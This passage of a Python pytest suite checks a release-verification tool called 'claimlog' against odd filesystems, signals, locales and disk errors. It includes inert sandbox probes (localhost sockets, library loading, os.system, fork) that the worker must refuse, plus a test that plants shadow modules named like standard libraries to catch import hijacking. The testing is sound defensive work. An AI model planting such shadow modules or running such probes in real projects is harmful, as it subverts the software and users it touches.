    assert "get the release again" not in str(said.value)


def test_limits_grow_with_the_size_and_the_option(folder: Path) -> None:
    target = pack(folder)
    small, large = (
        limits_of_size(stored_size(target)),
        limits_of_size(stored_size(target), 3),
    )
    assert large.seconds == pytest.approx(3 * small.seconds)
    assert large.memory == pytest.approx(3 * small.memory, rel=1e-6)
    (folder / "more").write_bytes(bytes(5_000_000))
    grown = limits_of_size(stored_size(pack(folder)))
    assert grown.seconds > small.seconds
    assert grown.memory > small.memory


def test_a_file_with_holes_states_no_size(folder: Path) -> None:
    before = limits_of_size(stored_size(folder))
    with (folder / "hole").open("wb") as file:
        file.truncate(1 << 40)
    after = limits_of_size(stored_size(folder))
    assert after.memory - before.memory < 1 << 24
    assert after.seconds - before.seconds < 10


def test_a_file_of_many_names_is_counted_once(folder: Path) -> None:
    (folder / "pad").write_bytes(bytes(range(256)) * 4096)
    before = limits_of_size(stored_size(folder))
    for number in range(50):
        os.link(folder / "pad", folder / f"pad{number}")
    assert limits_of_size(stored_size(folder)).memory == before.memory


def test_a_link_to_an_archive_has_the_limits_of_the_archive(folder: Path) -> None:
    target = pack(folder)
    link = folder.with_name("latest.zip")
    link.symlink_to(target)
    assert limits_of_size(stored_size(link)) == limits_of_size(stored_size(target))


def nested(folder: Path, levels: int) -> None:
    handle = os.open(folder, os.O_RDONLY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=handle)
        inner = os.open("d", os.O_RDONLY, dir_fd=handle)
        os.close(handle)
        handle = inner
    os.close(handle)


def test_directories_without_end_are_refused_in_a_line(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nested(folder / "log" / "events", 200)
    for call in (verify_in_process, verify_copy):
        with pytest.raises(ClaimlogError, match="directories more than 16 levels deep"):
            call(folder)
    shutil.rmtree(folder / "log" / "events" / "d")
    monkeypatch.setattr(walk_release, "MAX_FILES", 10)
    with pytest.raises(ClaimlogError, match="more than 10 files and directories"):
        verify_copy(folder)


def test_a_directory_that_cannot_be_read_is_named(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Else the files in it would be on no list."""
    real = os.scandir

    def scandir(place: str) -> Any:
        if str(place).endswith("schemas"):
            raise PermissionError(errno.EACCES, "Permission denied", place)
        return real(place)

    monkeypatch.setattr(walk_release.os, "scandir", scandir)
    with pytest.raises(ClaimlogError, match=r"log/schemas: cannot be read \(Permission denied"):
        verify_copy(folder)


@pytest.mark.slow
def test_an_archive_whose_directory_is_named_otherwise_is_named(folder: Path) -> None:
    other = folder.rename(folder.with_name("again.zip"))
    resum(other)
    archive.write_archive(other, target := folder.with_name("x.zip"))
    said = [str(finding) for finding in verify_copy(target).findings]
    assert any("again.zip: is the directory of tiny-0.1.0" in line for line in said)


@pytest.mark.parametrize("what", ["a pipe", "a link", "a link to a directory"])
def test_nothing_is_read_through_a_pipe_or_a_link(
    what: str, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = folder / ("log" if "directory" in what else "parquet/claims.parquet")
    path.rename(tmp_path / "elsewhere")
    if what == "a pipe":
        os.mkfifo(path)
    else:
        path.symlink_to(tmp_path / "elsewhere")

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a table was read")

    monkeypatch.setattr("claimlog.release.served_rows.parquet_rows", refuse)
    monkeypatch.setattr("claimlog.release.served_rows.sqlite_rows", refuse)
    said = [str(finding) for finding in verify_copy(folder).findings]
    assert any("is a symbolic link" in line or "is no regular file" in line for line in said)


@pytest.mark.slow
@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP, signal.SIGKILL])
def test_a_verification_ends_with_the_command_and_leaves_nothing(
    number: signal.Signals, folder: Path, tmp_path: Path
) -> None:
    target = pack(folder)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    command = [str(Path(sys.executable).with_name("claimlog")), "verify", "--alone", str(target)]
    environment = {**os.environ, "TMPDIR": str(scratch)}
    process = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL)
    child = None
    until = time.monotonic() + 60
    while child is None and time.monotonic() < until:
        children = Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()
        if children and any(scratch.rglob("*.zip")) | any(scratch.rglob("tiny-0.1.0")):
            child = int(children[0])
        elif process.poll() is not None:
            pytest.fail("it ended before it could be stopped")
        else:
            time.sleep(0.01)
    assert child is not None
    process.send_signal(number)
    process.wait(30)
    for _ in range(600):
        if not Path(f"/proc/{child}").exists() and not any(scratch.iterdir()):
            return
        time.sleep(0.05)
    left = [str(path) for path in scratch.rglob("*")][:5]
    pytest.fail(f"left: {left}, the process: {Path(f'/proc/{child}').exists()}")


SNIPPETS = {
    "connects": "import socket; socket.create_connection(('127.0.0.1', 9))",
    "sends a datagram": "from socket import *; socket(type=SOCK_DGRAM).sendto(b'', ('127.1', 9))",
    "sends a message": "import socket; socket.socketpair()[0].sendmsg([b''])",
    "looks up an address": "import socket; socket.gethostbyaddr('127.0.0.1')",
    "asks for the name of an address": "import socket; socket.getnameinfo(('127.0.0.1', 80), 0)",
    "loads a library": "import ctypes; ctypes.CDLL('libc.so.6')",
    "loads extensions": "import sys; sys.audit('sqlite3.enable_load_extension', None, True)",
    "looks up a name": "import socket; socket.getaddrinfo('localhost', 80)",
    "starts a program": "import subprocess; subprocess.run(['true'])",
    "runs a shell": "import os; os.system('true')",
    "forks": "import os; os.fork()",
}


@pytest.mark.parametrize("what", SNIPPETS)
def test_the_process_that_verifies_can_reach_nothing(what: str) -> None:
    code = "from claimlog.limited_worker import refuse_programs; refuse_programs(); "
    code += SNIPPETS[what]
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.returncode == 1
    assert "which reading it never needs" in done.stderr


@pytest.mark.slow
def test_a_module_in_the_current_directory_is_not_imported(folder: Path, tmp_path: Path) -> None:
    """A stranger's checkout may hold files that are named as libraries."""
    target = pack(folder)
    here = tmp_path / "here"
    here.mkdir()
    for name in ("polars", "claimlog", "json", "socket", "multiprocessing", "datasette"):
        (here / f"{name}.py").write_text(
            f"open({str(tmp_path / 'ran')!r}, 'w')\nraise SystemExit(7)\n"
        )
    command = [str(Path(sys.executable).with_name("claimlog")), "verify", "--alone", str(target)]
    done = subprocess.run(command, cwd=here, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not (tmp_path / "ran").exists()


@pytest.mark.slow
@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])  # POSIX is another name of C
def test_a_path_that_the_locale_lacks_is_no_fault_of_the_release(
    locale: str, folder: Path, tmp_path: Path
) -> None:
    place = tmp_path / "für Ø"
    place.mkdir()
    target = shutil.copyfile(pack(folder), place / "tiny-0.1.0.zip")
    given = [target]
    if locale == "C":
        given.append(shutil.copytree(folder, place / "tiny-0.1.0"))
    environment = {
        **os.environ,
        "LC_ALL": locale,
        "PYTHONUTF8": "0",
        "PYTHONCOERCECLOCALE": "0",
        "TMPDIR": str(place),
    }
    for one in given:
        command = [sys.executable, "-m", "claimlog", "verify", "--alone", str(one)]
        done = subprocess.run(command, capture_output=True, env=environment)
        assert done.returncode == 0, done.stdout + done.stderr
        assert b"consistent with itself" in done.stdout


def test_a_full_directory_for_temporary_files_is_named(
    folder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    target = pack(folder)

    class Usage:
        free = 10

    monkeypatch.setattr(archive.shutil, "disk_usage", lambda _: Usage)
    (tmp_path / "unpacked").mkdir()
    with pytest.raises(ClaimlogError, match="make room there, or name another directory with TMPD"):
        archive.extract_archive(target, tmp_path / "unpacked")


def test_a_disk_that_fills_up_is_named(
    folder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    target = pack(folder)

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(archive.shutil, "copyfileobj", full)
    (tmp_path / "unpacked").mkdir()
    with pytest.raises(ClaimlogError, match=r"is full .*TMPDIR") as said:
        archive.extract_archive(target, tmp_path / "unpacked")
    assert "get the archive again" not in str(said.value)


def converted(folder: Path) -> None:
    """What a checkout with core.autocrlf makes of text files."""
    for path in folder.rglob("*"):
        if path.is_file() and path.suffix not in (".db", ".parquet", ".whl"):
            path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))


def test_converted_line_ends_are_one_line(folder: Path) -> None:
    converted(folder)
    [finding] = verify_in_process(folder).findings
    assert "text files have other line ends than the release" in str(finding)
    assert "core.autocrlf" in str(finding)


def test_an_altered_file_among_converted_ones_is_named(folder: Path) -> None:
    converted(folder)
    path = folder / "CHANGES.md"
    path.write_bytes(path.read_bytes() + b"more\r\n")
    said = [str(finding) for finding in verify_in_process(folder).findings]
    assert any(line.startswith("CHANGES.md: is altered") for line in said)


UNREADABLE = {
    "SHA256SUMS": "SHA256SUMS",
    "a listed file": str(Path("parquet") / "claims.parquet"),
    "checkpoint": "checkpoint",
    "a table": "claims.parquet",
}


@pytest.mark.slow
@pytest.mark.parametrize("what", UNREADABLE)
def test_a_disk_that_cannot_be_read_is_named_and_the_release_is_not_blamed(
    what: str, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    resum(folder)
    opened, hashed, table = read_file.open_regular, checksums.file_digest, pq.ParquetFile

    def failing(real: Any) -> Any:
        def call(given: Any, *more: Any, **named: Any) -> Any:
            if str(getattr(given, "name", given)).endswith(UNREADABLE[what]):
                raise OSError(errno.EIO, "Input/output error")
            return real(given, *more, **named)

        return call

    if what == "a listed file":
        monkeypatch.setattr(checksums, "file_digest", failing(hashed))
    elif what == "a table":
        monkeypatch.setattr(pq, "ParquetFile", failing(table))
    else:
        monkeypatch.setattr(read_file, "open_regular", failing(opened))
    with pytest.raises(ClaimlogError, match="Input/output error") as said:
        verify_copy(folder)
    assert UNREADABLE[what] in str(said.value)
    assert "get the release again" not in str(said.value)
